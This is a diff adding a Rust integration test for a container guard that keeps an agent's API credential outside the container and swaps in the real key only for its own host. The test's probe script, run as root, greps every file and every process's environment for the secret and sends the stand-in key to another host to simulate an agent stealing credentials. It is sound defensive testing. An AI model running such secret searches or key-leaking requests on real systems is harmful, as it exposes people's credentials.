@@ -1,0 +1,273 @@
+//! Credentials kept outside the agent (issue 25), end to end with real parts: a test HTTPS
+//! server with a CA of its own (given to yolo as `extra_ca`, which the guard's proxy trusts
+//! upstream) that records the headers it receives, a `[credentials.NAME]` section read from the
+//! host's environment, and an agent (`yolo run`) that, as root in its container, looks for the
+//! real value everywhere and tries to use its stand-in elsewhere.
+
+use crate::support::net::*;
+use crate::support::*;
+use std::time::Duration;
+
+/// The test server's image (python3 with its ssl and http.server modules).
+const HTTPS_IMAGE: &str = "yolo-test-https:1";
+
+/// The credential's host and another inspected host, both names of the test server.
+const API: &str = "api.allowed.test";
+const MIRROR: &str = "mirror.allowed.test";
+
+/// A CA of the server's own, and a leaf for both names: `ca.pem`, `server.pem`, `server.key`
+/// in `dir`.
+fn server_certificates(dir: &std::path::Path) {
+    use rcgen::{BasicConstraints, CertificateParams, DnType, IsCa, Issuer, KeyPair};
+    let mut params = CertificateParams::new(Vec::<String>::new()).unwrap();
+    params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
+    params
+        .distinguished_name
+        .push(DnType::CommonName, "yolo credentials test server CA");
+    let ca_key = KeyPair::generate().unwrap();
+    let ca = params.self_signed(&ca_key).unwrap();
+    let issuer = Issuer::new(params, ca_key);
+    let key = KeyPair::generate().unwrap();
+    let leaf = CertificateParams::new(vec![API.to_string(), MIRROR.to_string()])
+        .unwrap()
+        .signed_by(&key, &issuer)
+        .unwrap();
+    std::fs::write(dir.join("ca.pem"), ca.pem()).unwrap();
+    std::fs::write(dir.join("server.pem"), leaf.pem()).unwrap();
+    std::fs::write(dir.join("server.key"), key.serialize_pem()).unwrap();
+}
+
+/// The server: HTTPS on 443, each request's method, host, path and `x-api-key` printed as a
+/// `REQ {json}` line (its `docker logs`), answered 200.
+const SERVER: &str = r#"
+import http.server, json, ssl
+class H(http.server.BaseHTTPRequestHandler):
+    protocol_version = "HTTP/1.1"
+    def answer(self):
+        n = int(self.headers.get("content-length") or 0)
+        if n:
+            self.rfile.read(n)
+        seen = {"method": self.command, "host": self.headers.get("host"), "path": self.path,
+                "key": self.headers.get("x-api-key")}
+        print("REQ " + json.dumps(seen), flush=True)
+        body = ("served " + self.path + "\n").encode()
+        self.send_response(200)
+        self.send_header("content-length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+    do_GET = do_POST = answer
+    def log_message(self, *args):
+        pass
+ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+ctx.load_cert_chain("/certs/server.pem", "/certs/server.key")
+server = http.server.ThreadingHTTPServer(("0.0.0.0", 443), H)
+server.socket = ctx.wrap_socket(server.socket, server_side=True)
+server.serve_forever()
+"#;
+
+/// The requests the server received.
+fn received(server: &str) -> Vec<serde_json::Value> {
+    docker(&["logs", server])
+        .lines()
+        .filter_map(|l| l.strip_prefix("REQ "))
+        .filter_map(|l| serde_json::from_str(l).ok())
+        .collect()
+}
+
+/// What the agent does, as root in its container: prints its variable, uses the stand-in on
+/// the credential's host, sends it to another inspected host, sends someone else's key, and
+/// looks for the real value in every file and in the environment of every process. The real
+/// value is never in the script nor on a command line (which the exec audit records, on the
+/// host): its two halves are joined into a pattern file under /dev, which the search skips.
+fn probe_script(first: &str, second: &str) -> String {
+    format!(
+        r#"echo "agent-var=$EXAMPLE_KEY"
+code() {{ curl -sS -o /dev/null -w '%{{http_code}}' --max-time 10 "$@"; }}
+echo "own=$(code -H "x-api-key: $EXAMPLE_KEY" https://{API}/with-stand-in)"
+echo "misuse=$(code -H "x-api-key: $EXAMPLE_KEY" https://{MIRROR}/leak)"
+echo "theirs=$(code -H 'x-api-key: someone-elses-key-0123456789' https://{API}/theirs)"
+printf '%s' '{first}' > /dev/shm/pattern; printf '%s\n' '{second}' >> /dev/shm/pattern
+echo "files=$(grep -rlsF -f /dev/shm/pattern / --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev | tr '\n' ' ')"
+echo "environ=$(for f in /proc/[0-9]*/environ; do tr '\0' '\n' < "$f" 2>/dev/null | grep -qF -f /dev/shm/pattern && echo "$f"; done | tr '\n' ' ')"
+rm -f /dev/shm/pattern
+echo done
+"#
+    )
+}
+
+/// The answer of `name=` in the agent's output.
+fn field<'a>(out: &'a str, name: &str) -> &'a str {
+    out.lines()
+        .find_map(|l| l.strip_prefix(&format!("{name}=")))
+        .unwrap_or_else(|| panic!("no {name}= in the agent's output:\n{out}"))
+        .trim()
+}
+
+/// ATTACK: root in the agent container holds only a stand-in. The real value (read on the
+/// host from `from_env`) is in no file and no process's environment in the container; the
+/// agent's variable holds a stand-in, which the guard swaps for the real value on the
+/// credential's host only; the stand-in sent to another inspected host is refused (403) and
+/// recorded as `credential_misuse`; someone else's key on the credential's host is refused.
+#[test]
+fn the_agent_holds_a_stand_in_and_the_guard_adds_the_real_key_only_where_it_belongs() {
+    let mut t = Test::new();
+    let net = Internet::new(&t);
+    ensure_image(HTTPS_IMAGE, "https.Dockerfile");
+    let certs = tempfile::tempdir().unwrap();
+    server_certificates(certs.path());
+    let server = format!("yolo-{}-https", t.id);
+    docker(&[
+        "run",
+        "-d",
+        "--name",
+        &server,
+        "--label",
+        &format!("{LABEL}={}", t.id),
+        "--network",
+        &net.network,
+        "-v",
+        &format!("{}:/certs:ro", certs.path().display()),
+        HTTPS_IMAGE,
+        "python3",
+        "-c",
+        SERVER,
+    ]);
+    let ip = ip_of(&server, &net.network);
+    net.set_answer(API, &ip);
+    net.set_answer(MIRROR, &ip);
+
+    let real = format!("realkey-{}-0123456789abcdef", t.id);
+    let (first, second) = real.split_at(real.len() / 2);
+    t.env("YOLO_TEST_REAL_KEY", &real);
+    t.devcontainer(&format!(r#"{{"image": "{AGENT_IMAGE}"}}"#));
+    t.user_config(&net.user_config(&format!(
+        r#"extra_ca = ["{ca}"]
+[credentials.example]
+hosts = ["{API}"]
+header = "x-api-key"
+from_env = "YOLO_TEST_REAL_KEY"
+agent_env = "EXAMPLE_KEY"
+[http."{MIRROR}"]
+allow = ["GET /**"]
+[agents.probe]
+command = ["sh", "-c", {script}]
+"#,
+        ca = certs.path().join("ca.pem").display(),
+        script = serde_json::to_string(&probe_script(first, second)).unwrap(),
+    )));
+    let mut args = vec!["run".to_string(), "probe".to_string()];
+    args.extend(net.up_flags(&["*.allowed.test"]));
+    let refs: Vec<&str> = args.iter().map(String::as_str).collect();
+    let run = t.yolo(&refs);
+    let out = run.stdout();
+    assert!(out.contains("done"), "{}", run.describe());
+
+    // The agent's variable holds a stand-in, not the real value.
+    let stand_in = field(&out, "agent-var");
+    assert!(!stand_in.is_empty(), "the agent got no variable:\n{out}");
+    assert_ne!(stand_in, real);
+    assert!(
+        !out.contains(&real),
+        "the real value reached the agent:\n{out}"
+    );
+    // Nowhere in the container: no file, no process's environment.
+    assert_eq!(field(&out, "files"), "", "files holding the real value");
+    assert_eq!(field(&out, "environ"), "", "environments holding it");
+
+    // The stand-in works on the credential's host, where the real value arrives.
+    assert_eq!(field(&out, "own"), "200", "{}", run.describe());
+    let seen = received(&server);
+    let own = seen
+        .iter()
+        .find(|r| r["path"] == "/with-stand-in")
+        .unwrap_or_else(|| panic!("the server never saw the request: {seen:?}"));
+    assert_eq!(own["key"], real.as_str(), "{own}");
+    // Anywhere else it is refused, and recorded; someone else's key too.
+    assert_eq!(field(&out, "misuse"), "403", "{}", run.describe());
+    assert_eq!(field(&out, "theirs"), "403", "{}", run.describe());
+    assert!(
+        !seen
+            .iter()
+            .any(|r| r["path"] == "/leak" || r["path"] == "/theirs"),
+        "refused requests reached the server: {seen:?}"
+    );
+    let misuse = wait_event(&t, Duration::from_secs(5), |e| {
+        e["kind"] == "credential_misuse"
+    });
+    let misuse = misuse.unwrap_or_else(|| panic!("no credential_misuse event: {:?}", t.events()));
+    let text = misuse.to_string();
+    assert!(text.contains("example"), "{text}");
+    assert!(!text.contains(&real) && !text.contains(stand_in), "{text}");
+    // `yolo audit --kind http` lists the requests, the run's summary counts the refused ones.
+    let audit = t.yolo(&["audit", "--kind", "http"]).ok().stdout();
+    assert!(
+        audit.contains(&format!("GET {API}/with-stand-in -> 200 ("))
+            && audit.contains("credential example"),
+        "{audit}"
+    );
+    assert!(
+        audit.contains(&format!("GET {MIRROR}/leak -> 403 refused by the guard")),
+        "{audit}"
+    );
+    assert!(
+        run.stderr().contains("requests refused (HTTP): 2"),
+        "{}",
+        run.describe()
+    );
+    // `yolo allow --http` opens what a rule refused, on the running session; `deny --http`
+    // closes it again.
+    let upload = || {
+        t.yolo(&[
+            "exec",
+            "curl",
+            "-sS",
+            "-o",
+            "/dev/null",
+            "-w",
+            "%{http_code}",
+            "--max-time",
+            "10",
+            "-X",
+            "POST",
+            &format!("https://{MIRROR}/upload"),
+        ])
+        .stdout()
+    };
+    assert_eq!(upload(), "403");
+    let rule = format!("{MIRROR} POST /upload");
+    t.yolo(&["allow", "--http", &rule]).ok();
+    assert_eq!(upload(), "200");
+    t.yolo(&["deny", "--http", &rule]).ok();
+    assert_eq!(upload(), "403");
+    t.yolo(&["deny", "--http", &rule])
+        .assert_stderr_contains("hold no POST /upload");
+    // The host's own files: the real value is in none of yolo's (its state, the logs, the
+    // guard's config), the stand-in only where `run` reads it.
+    let mut found = Vec::new();
+    for entry in walk(t.root()) {
+        if std::fs::read_to_string(&entry).is_ok_and(|text| text.contains(&real)) {
+            found.push(entry);
+        }
+    }
+    assert!(found.is_empty(), "yolo wrote the real value to {found:?}");
+}
+
+/// Every file below `dir`.
+fn walk(dir: &std::path::Path) -> Vec<std::path::PathBuf> {
+    let mut out = Vec::new();
+    let mut stack = vec![dir.to_path_buf()];
+    while let Some(dir) = stack.pop() {
+        let Ok(entries) = std::fs::read_dir(&dir) else {
+            continue;
+        };
+        for entry in entries.flatten() {
+            let path = entry.path();
+            match entry.file_type() {
+                Ok(kind) if kind.is_dir() => stack.push(path),
+                Ok(kind) if kind.is_file() => out.push(path),
+                _ => {}
+            }
+        }
+    }
+    out
+}
